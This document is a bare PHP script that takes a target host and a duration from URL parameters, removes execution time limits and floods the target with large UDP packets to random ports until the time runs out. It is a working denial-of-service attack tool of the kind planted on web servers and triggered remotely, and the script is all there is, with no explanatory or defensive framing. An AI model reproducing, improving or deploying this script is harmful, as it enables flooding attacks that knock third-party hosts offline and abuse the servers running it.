<?php
ignore_user_abort(true);
set_time_limit(0);
$host = $_GET['host']; $time = time() + (int)$_GET['time'];
while (time() < $time) { $fp = fsockopen('udp://' . $host, rand(1, 65000)); fwrite($fp, str_repeat('X', 65000)); fclose($fp); }
